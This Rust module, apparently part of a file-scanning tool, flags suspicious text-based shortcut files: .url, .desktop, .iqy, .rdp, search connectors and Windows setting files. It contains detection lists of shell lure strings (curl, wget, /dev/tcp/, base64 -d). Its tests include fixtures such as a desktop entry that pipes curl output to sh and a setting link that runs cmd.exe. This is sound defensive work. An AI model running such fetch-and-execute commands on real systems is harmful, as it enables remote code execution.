//! Shortcuts that are texts: to the web, of Linux desktops, searches and settings of Windows, connections.

use super::address::{Leads, leads};
use super::commands;
use super::signs::Signs;
use crate::kinds::{programs, types};
use crate::walk::{Inside, Part};
use crate::xml::{self, Step};
use crate::{FileType, Limit, Location, Reason, text};

/// How many lines of one file are read.
const MAX_LINES: usize = 10_000;

/// What honest settings of Windows start.
const HONEST_SETTINGS: &[&str] = &["%windir%\\system32\\control.exe", "ms-settings:"];

/// Looks at a shortcut that is a text.
pub(super) fn look(part: &Part<'_>, inside: &mut Inside<'_, '_>) {
    let text = text::decoded(part.bytes);
    let mut signs = Signs::default();
    if text.lines().count() > MAX_LINES {
        inside.reason(Reason::limit(Limit::Reader, MAX_LINES as u64));
    }
    for own in part.types {
        match own {
            FileType::UrlShortcut => web(&text, &mut signs),
            FileType::DesktopEntry => desktop(&text, &mut signs),
            FileType::Iqy => query(&text, &mut signs),
            FileType::Rdp => connection(&text, &mut signs),
            FileType::SearchConnector | FileType::SettingContent => {
                if let Err(reason) = markup(&text, *own, &mut signs) {
                    inside.reason(reason);
                }
            }
            _ => {}
        }
    }
    signs.tell(inside);
}

/// The lines `name=value`, with their numbers; names in lower case.
fn pairs(text: &str, sign: char) -> impl Iterator<Item = (u64, String, &str)> {
    let lines = (1..).zip(text.lines()).take(MAX_LINES);
    lines.filter_map(move |(number, line)| {
        let (name, value) = line.split_once(sign)?;
        Some((number, name.trim().to_lowercase(), value.trim()))
    })
}

/// A shortcut to the web.
fn web(text: &str, signs: &mut Signs) {
    for (line, name, value) in pairs(text, '=') {
        let place = Location::Line(line);
        match (name.as_str(), leads(value)) {
            ("url", Leads::Handler | Leads::Script | Leads::Data) => {
                signs.add(&programs::SHORTCUT_TO_FAR_PROGRAM, place, value);
            }
            ("url", Leads::Share | Leads::File | Leads::Web) if commands::runs(value) => {
                signs.add(&programs::SHORTCUT_TO_FAR_PROGRAM, place, value);
            }
            ("url", Leads::Share | Leads::File) => signs.add(&programs::SHORTCUT_TO_SHARE, place, value),
            ("url", _) => signs.add(&programs::SHORTCUT_TARGET, place, value),
            // A folder to work in on another machine makes Windows run programs from there.
            ("workingdirectory", leads) if leads.far() => signs.add(&programs::SHORTCUT_TO_FAR_PROGRAM, place, value),
            ("iconfile", Leads::Share) => signs.add(&programs::SHORTCUT_FAR_ICON, place, value),
            _ => {}
        }
    }
}

/// What fetches and runs in the shells of Linux.
const SHELL_LURES: &[&str] =
    &["curl ", "wget ", "base64 -d", "base64 --decode", "/dev/tcp/", "eval ", "nohup ", "/tmp/", "chmod +x"];

/// Shells that are given a command.
const SHELLS: &[&str] = &["sh -c", "bash -c", "python -c", "python3 -c", "perl -e"];

/// A shortcut of Linux desktops.
fn desktop(text: &str, signs: &mut Signs) {
    for (line, name, value) in pairs(text, '=') {
        let lower = value.to_lowercase();
        let place = Location::Line(line);
        match name.as_str() {
            "exec" | "tryexec" => {
                let shell = SHELLS.iter().any(|shell| lower.contains(shell));
                let lure = SHELL_LURES.iter().any(|lure| lower.contains(lure));
                match (shell, lure) {
                    (true, true) => signs.add(&programs::SHORTCUT_COMMAND, place, value),
                    (false, true) => signs.add(&programs::SHORTCUT_TO_RUNNER, place, value),
                    _ if value.split_whitespace().any(|word| leads(word.trim_matches(['"', '\''])).far()) => {
                        signs.add(&types::FAR_SHORTCUT, place, value);
                    }
                    _ => signs.add(&programs::SHORTCUT_TARGET, place, value),
                }
            }
            "url" if leads(value).far() => signs.add(&types::FAR_SHORTCUT, place, value),
            "url" => signs.add(&programs::SHORTCUT_TARGET, place, value),
            _ => {}
        }
    }
}

/// A query of Excel: `WEB`, a number, an address.
fn query(text: &str, signs: &mut Signs) {
    for (number, line) in (1..).zip(text.lines()).take(MAX_LINES) {
        if leads(line).far() || leads(line) == Leads::File {
            signs.add(&programs::WEB_QUERY, Location::Line(number), line.trim());
        }
    }
}

/// A connection to a far desktop: `name:type:value`.
fn connection(text: &str, signs: &mut Signs) {
    let mut address = (1, String::new());
    let (mut drives, mut program) = (None, None);
    for (line, name, value) in pairs(text, ':') {
        let value = value.split_once(':').map_or("", |(_, value)| value).trim();
        match name.as_str() {
            "full address" | "alternate full address" => address = (line, value.to_owned()),
            "drivestoredirect" if !value.is_empty() => drives = Some((line, value)),
            "redirectdrives" if value == "1" => drives = drives.or(Some((line, "redirectdrives"))),
            "remoteapplicationprogram" | "alternate shell" if !value.is_empty() => program = Some(value),
            _ => {}
        }
    }
    let (line, address) = address;
    let shown = format!("{address} {}", program.unwrap_or_default());
    signs.add(&programs::FAR_DESKTOP, Location::Line(line), shown.trim());
    if let Some((line, value)) = drives {
        signs.add(&programs::FAR_DESKTOP_TAKES_DRIVES, Location::Line(line), format!("{value} → {address}"));
    }
}

/// Searches, libraries and settings of Windows.
fn markup(text: &str, own: FileType, signs: &mut Signs) -> Result<(), Reason> {
    let (mut within, mut value) = (String::new(), String::new());
    xml::read(text, &mut |step, at| match step {
        Step::Open(element) => {
            within = element.name.to_lowercase();
            value.clear();
        }
        Step::Text(text) => value.push_str(text),
        Step::Close(name) if name.eq_ignore_ascii_case(&within) => {
            let value = value.trim();
            let place = Location::Offset(at);
            match (own, within.as_str()) {
                (FileType::SearchConnector, "url" | "path") if far_folder(value) => {
                    signs.add(&programs::FAR_FOLDER, place, value);
                }
                (FileType::SearchConnector, "iconreference") if leads(value) == Leads::Share => {
                    signs.add(&programs::SHORTCUT_FAR_ICON, place, value);
                }
                (FileType::SettingContent, "deeplink") if !value.is_empty() => {
                    let lower = value.to_lowercase();
                    let honest = HONEST_SETTINGS.iter().any(|own| lower.starts_with(own));
                    let kind = if honest { &programs::SHORTCUT_TARGET } else { &programs::SETTING_COMMAND };
                    signs.add(kind, place, value);
                }
                _ => {}
            }
            within.clear();
        }
        Step::Close(_) | Step::Definition(_) => {}
    })
}

/// Whether a folder is one of another machine.
fn far_folder(address: &str) -> bool {
    leads(address).far() || leads(address) == Leads::Handler
}

#[cfg(test)]
mod tests {
    use crate::FileType;
    use crate::walk::testing::{ids, inspected_as, told};

    #[test]
    fn shortcuts_are_told_by_what_they_do() {
        let search = |url: &str| {
            format!(
                "<searchConnectorDescription><simpleLocation><url>{url}</url></simpleLocation></searchConnectorDescription>"
            )
        };
        let setting = |link: &str| {
            format!(
                "<PCSettings><SearchableContent><ApplicationInformation><DeepLink>{link}</DeepLink></ApplicationInformation></SearchableContent></PCSettings>"
            )
        };
        let cases: Vec<(FileType, String, &str)> = vec![
            (FileType::UrlShortcut, "[InternetShortcut]\r\nURL=https://moj.gov.vn\r\n".to_owned(), "shortcut-target"),
            (
                FileType::UrlShortcut,
                "[InternetShortcut]\nURL=file://10.0.0.1/a/b.exe\n".to_owned(),
                "shortcut-to-far-program",
            ),
            (FileType::UrlShortcut, "[InternetShortcut]\nURL=file://10.0.0.1/a\n".to_owned(), "shortcut-to-share"),
            (
                FileType::UrlShortcut,
                "URL=C:\\Windows\\a\nWorkingDirectory=\\\\example.vn@80\\a".to_owned(),
                "shortcut-to-share shortcut-to-far-program",
            ),
            (
                FileType::UrlShortcut,
                "URL=https://a\nIconFile=\\\\10.0.0.1\\a.ico".to_owned(),
                "shortcut-target shortcut-far-icon",
            ),
            (FileType::DesktopEntry, "[Desktop Entry]\nExec=gedit %f".to_owned(), "shortcut-target"),
            (FileType::DesktopEntry, "Exec=firefox \"https://example.vn\"".to_owned(), "far-shortcut"),
            (FileType::DesktopEntry, "Type=Link\nURL=smb://10.0.0.1/a".to_owned(), "far-shortcut"),
            (FileType::DesktopEntry, "Type=Link\nURL=/usr/share/doc".to_owned(), "shortcut-target"),
            (FileType::DesktopEntry, "Exec=sh -c 'curl http://a | sh'".to_owned(), "shortcut-runs-command"),
            (FileType::SearchConnector, search("https://example.vn/a"), "far-folder"),
            (FileType::SearchConnector, search("C:\\a"), ""),
            (FileType::SettingContent, setting("%windir%\\system32\\cmd.exe /c calc"), "setting-runs-command"),
            (FileType::SettingContent, setting("%windir%\\system32\\control.exe /name a"), "shortcut-target"),
            (FileType::Iqy, "WEB\n1\nhttp://example.vn/a.dat".to_owned(), "web-query"),
            (FileType::Rdp, "full address:s:10.0.0.1:3389\nredirectdrives:i:0".to_owned(), "far-desktop"),
            (
                FileType::Rdp,
                "full address:s:a\ndrivestoredirect:s:*".to_owned(),
                "far-desktop far-desktop-takes-drives",
            ),
        ];
        for (own, text, expected) in cases {
            let inspection = inspected_as("a", text.as_bytes(), &[own], &[]);
            assert_eq!(ids(&inspection).join(" "), expected, "{text}\n{}", told(&inspection));
        }
    }

    #[test]
    fn any_text_is_a_shortcut() {
        bolero::check!().with_type::<String>().for_each(|text| {
            let all =
                [FileType::UrlShortcut, FileType::DesktopEntry, FileType::Iqy, FileType::Rdp, FileType::SettingContent];
            let _ = inspected_as("a", text.as_bytes(), &all, &[]);
        });
    }
}
